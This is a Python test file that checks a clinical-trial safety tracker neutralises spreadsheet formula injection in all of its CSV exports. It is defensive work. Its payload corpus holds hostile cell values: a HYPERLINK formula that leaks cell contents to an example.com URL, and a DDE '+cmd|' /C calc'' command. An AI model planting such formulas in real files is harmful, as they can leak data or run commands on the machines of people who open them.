"""Formula-safe CSV everywhere (issue 13, point 6): every CSV file pv-tracker writes goes
through pv.csvsafe, and a payload corpus put into the data comes out of every CSV output
with no cell that a spreadsheet would evaluate, while numbers (negative ones too) stay
numbers.

The outputs: `pvtracker export sdtm` (dm.csv, ae.csv, ex.csv: the issue's case, SUBJID,
AETERM and AECONTRT starting with "="), the safety tables' CSV (`pvtracker tables
--format csv`, to standard output and to a file, and the /reports/table.csv download of
every table), and the upload error report (the web download, and the functions behind
it). A source scan checks that no other code path writes CSV.
"""

from __future__ import annotations

import csv
import gzip
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlmodel import col, select

from pv import csvsafe
from pv.analysis.api import TABLE_NAMES
from pv.app import create_app
from pv.audit.service import Actor
from pv.auth.service import create_user, set_password
from pv.db import write_session
from pv.events.models import AdverseEvent
from pv.imports.spreadsheet.common import RowError
from pv.imports.spreadsheet.upload import error_report_csv, error_report_gzip
from pv.settings import Settings
from pv.study.models import Arm, Subject
from tests.commands import Commands
from tests.exports.conftest import STUDY, TRIGGERS, Demo, demo  # noqa: F401
from tests.web.webhelpers import PASSWORD, login, upload_and_wait

# The corpus: OWASP's examples, the HYPERLINK, tab and CR first, Chinese text.
HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
PAYLOADS = (
    HYPERLINK,
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=公式",
)
CHINESE = "输液反应（中文）"
SUBJID = '=HYPERLINK("http://x.test","!")'  # SUBJID holds at most 40 characters
NUMBERS = ("-1.5", "+3", "-0.25e-3", "12", ".5")
# What a spreadsheet evaluates: the first character (OWASP), independently of pv.csvsafe.
DANGER = ("=", "+", "-", "@", "\t", "\r", "\n")
ROOT = Path(__file__).resolve().parents[2]


def is_number(cell: str) -> bool:
    """A plain number: float() reads it and it has only digits, sign, point, exponent."""
    if not re.fullmatch(r"[0-9+\-.eE]+", cell):
        return False
    try:
        float(cell)
    except ValueError:
        return False
    return True


def cells_of(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def unsafe(rows: list[list[str]]) -> list[str]:
    """Every cell that a spreadsheet would evaluate as a formula."""
    return [c for row in rows for c in row if c.startswith(DANGER) and not is_number(c)]


def written(text: str) -> str:
    """How a text must appear in a CSV file: with a quote in front when dangerous."""
    return "'" + text if text.startswith(DANGER) and not is_number(text) else text


def column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [r[at] for r in rows[1:]]


# --- the writer itself ---------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_and_reads_back(payload: str) -> None:
    assert csvsafe.safe_cell(payload) == "'" + payload
    assert csvsafe.restore("'" + payload) == payload
    out = io.StringIO(newline="")
    csvsafe.Writer(out).writerow([payload, CHINESE, -1.5, 3, None])
    (row,) = cells_of(out.getvalue())
    assert row == ["'" + payload, CHINESE, "-1.5", "3", ""]
    assert unsafe([row]) == []


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number: str) -> None:
    assert csvsafe.safe_cell(number) == number
    assert csvsafe.safe_cell(float(number)) == float(number)
    assert csvsafe.restore(number) == number


@pytest.mark.parametrize("text", ["-1,5", "+ 3", "-inf", "--1", "-", "+", "1-2", "-1.5x"])
def test_only_a_plain_number_is_spared(text: str) -> None:
    expected = text if not text.startswith(DANGER) else "'" + text
    assert csvsafe.safe_cell(text) == expected


def test_other_text_is_unchanged() -> None:
    for text in (CHINESE, "中文 =不是公式", "fever", "'quoted", "", "A=1", "1+1"):
        assert csvsafe.safe_cell(text) == text


# --- the data: the exports demo trial with the corpus in subjects, arms and events ---------


@pytest.fixture(scope="module")
def hostile(demo: Demo) -> Demo:  # noqa: F811
    """The exports demo (its events already carry TRIGGERS in AETERM, AECONTRT and the
    narrative) plus the issue's case: a SUBJID starting with "=", an arm label that is a
    formula, Chinese terms, and a term that is a number."""
    injected = demo.injected
    with write_session(demo.engine) as s:
        event = s.get(AdverseEvent, injected[0])
        assert event is not None
        s.execute(update(Subject).where(Subject.id == event.subject_id).values(subjid=SUBJID))
        arm = s.exec(select(Arm).where(Arm.study_id == STUDY).order_by(Arm.position)).first()
        assert arm is not None
        arm.label = "@SUM(A1) " + CHINESE
        s.add(arm)
        s.execute(update(AdverseEvent).where(AdverseEvent.id == injected[1])
                  .values(aeterm="=公式", aecontrt=CHINESE))  # fmt: skip
        s.execute(update(AdverseEvent).where(AdverseEvent.id == injected[2])
                  .values(aeterm="-1.5"))  # fmt: skip
    return demo


@pytest.fixture
def cli(hostile: Demo, monkeypatch, capsys):  # type: ignore[no-untyped-def]
    commands = Commands(monkeypatch, capsys, hostile.url)
    yield commands
    commands.close()


def test_sdtm_export_of_formula_texts_is_safe(cli, hostile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    code, _, err = cli("export", "sdtm", "--study", STUDY, "--out", str(tmp_path))
    # The Chinese texts keep the .xpt files from being written (ASCII only); the CSV files
    # are written all the same, and those are what a spreadsheet opens.
    assert code == 2 and "the CSV files are written to" in err
    files = {name: cells_of((tmp_path / f"{name}.csv").read_bytes()) for name in ("dm", "ae", "ex")}
    for name, rows in files.items():
        assert len(rows) > 1, name
        assert unsafe(rows) == [], name
    dm, ae = files["dm"], files["ae"]
    assert "'" + SUBJID in column(dm, "SUBJID")
    assert "'@SUM(A1) " + CHINESE in column(dm, "ARM")
    terms, treatments = column(ae, "AETERM"), column(ae, "AECONTRT")
    # Each injected event's texts as stored: in the CSV with a quote when dangerous.
    with write_session(hostile.engine) as s:
        stored = [
            (e.aeterm, e.aecontrt or "")
            for e in s.exec(select(AdverseEvent).where(col(AdverseEvent.id).in_(hostile.injected)))
        ]
    dangerous = 0
    for term, treatment in stored:
        assert written(term) in terms, term
        assert written(treatment) in treatments, treatment
        dangerous += (written(term) != term) + (written(treatment) != treatment)
    assert dangerous >= 10
    assert "'=公式" in terms and CHINESE in treatments  # Chinese text itself is untouched
    assert "-1.5" in terms  # a term that is a number is written as that number
    days = column(ae, "AESTDY")
    assert [d for d in days if d.startswith("-")], "the early event's negative study day"
    assert all(is_number(d) for d in days if d)
    quoted = [c for rows in files.values() for row in rows for c in row if c.startswith("'")]
    assert len(quoted) >= 15  # SUBJID, ARM, and the event texts of the corpus


def test_tables_csv_from_the_command_is_safe(cli, tmp_path) -> None:  # type: ignore[no-untyped-def]
    code, text, _ = cli("tables", "--study", STUDY, "--table", "all", "--format", "csv")
    assert code == 0
    rows = cells_of(text)
    out = tmp_path / "tables.csv"
    code, _, _ = cli("tables", "--study", STUDY, "--table", "all", "--format", "csv",
                     "--out", str(out))  # fmt: skip
    assert code == 0
    in_file = cells_of(out.read_bytes())
    assert in_file == rows
    assert unsafe(rows) == []
    arms = set(column(rows, "arm"))
    assert "'@SUM(A1) " + CHINESE in arms
    assert {r[0] for r in rows[1:]} >= set(TABLE_NAMES) - {"AET10"}
    negative = [c for c in column(rows, "rd") if c.startswith("-")]
    assert negative and all(is_number(c) for c in negative)  # risk differences below zero


def test_tables_csv_download_is_safe_for_every_table(hostile: Demo) -> None:
    with write_session(hostile.engine) as s:
        user = create_user(session=s, actor=Actor.system("test"), username="csv-officer",
                           role="officer", full_name="Officer")  # fmt: skip
        set_password(session=s, actor=Actor.system("test"), user=user, password=PASSWORD)
    app = create_app(Settings(database_url=hostile.url, upload_worker="thread"), hostile.engine)
    client, _ = login(app, "csv-officer")
    seen_arm = False
    for name in TABLE_NAMES:
        r = client.get(f"/reports/table.csv?study={STUDY}&table={name}&cutoff=2021-12-31")
        assert r.status_code == 200, name
        assert r.content.startswith(b"\xef\xbb\xbf")
        rows = cells_of(r.content)
        assert len(rows) > 1 and unsafe(rows) == [], name
        seen_arm |= "'@SUM(A1) " + CHINESE in column(rows, "arm")
    assert seen_arm


# --- upload error reports ------------------------------------------------------------------


def test_error_report_functions_are_safe() -> None:
    errors = [RowError(i + 2, "AETERM", p, p) for i, p in enumerate(PAYLOADS)]
    errors.append(RowError(20, "AETOXGR", "-1.5", CHINESE))
    for data in (error_report_csv(errors), gzip.decompress(error_report_gzip(errors))):
        rows = cells_of(data)
        assert unsafe(rows) == []
        assert [r[2] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + ["-1.5"]
        assert rows[-1] == ["20", "AETOXGR", "-1.5", CHINESE]


def test_uploaded_formulas_come_back_neutralized_in_the_error_report(world) -> None:  # type: ignore[no-untyped-def]
    from tests.web.test_uploads import HEADER

    client, csrf = login(world.app, "inv1")
    own = world.ids["own"][2]
    # Each row's grade is a payload (or a negative number): each is reported as the value.
    rows = [
        [own, CHINESE, "10016558", p, "N", f"2021-03-{i + 10}", "2021-04-02",
         "RECOVERED/RESOLVED", "NOT RELATED", "NOT RELATED"]
        for i, p in enumerate((*PAYLOADS, "-1.5"))
    ]  # fmt: skip
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *rows])
    _, state, _ = upload_and_wait(client, csrf, world.study_id, "e.csv", out.getvalue().encode())
    assert state["status"] == "rejected"
    report = client.get(state["report"])
    assert report.status_code == 200
    lines = cells_of(report.content)
    assert len(lines) > len(PAYLOADS)
    assert unsafe(lines) == []
    grades = [r for r in lines[1:] if r[1] == "AETOXGR"]
    assert [r[0] for r in grades] == [str(i + 2) for i in range(len(PAYLOADS) + 1)]
    assert grades[-1][2] == "-1.5"  # a number: as it is
    for row, payload in zip(grades, PAYLOADS, strict=False):
        assert row[2] == written(payload.strip()) or row[2] == written(payload), row
    assert sum(r[2].startswith("'") for r in grades) >= 5


# --- no other CSV writer -------------------------------------------------------------------


def test_every_csv_writer_in_the_code_is_the_safe_one() -> None:
    """csv.writer, csv.DictWriter and pandas' to_csv appear only in pv/csvsafe.py; the
    tables' CSV is render.to_csv, which uses it."""
    found = []
    for path in sorted((ROOT / "pv").rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        for n, line in enumerate(path.read_text("utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if re.search(r"\bcsv\.(writer|DictWriter)\(", code) or (
                re.search(r"\.to_csv\(", code) and "render.to_csv(" not in code
            ):
                found.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert found == []
    render = (ROOT / "pv" / "analysis" / "render.py").read_text("utf-8")
    assert "csvsafe.DictWriter(" in render
